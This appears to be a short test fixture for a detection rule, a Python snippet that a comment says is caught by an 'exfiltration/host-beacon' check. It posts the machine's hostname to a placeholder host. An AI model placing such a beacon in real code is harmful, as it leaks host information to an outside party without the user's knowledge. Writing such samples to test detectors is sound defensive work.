# evades: caught by exfiltration/host-beacon
import socket, requests
requests.post("https://beacon.invalid/", json={"content": socket.gethostname()})
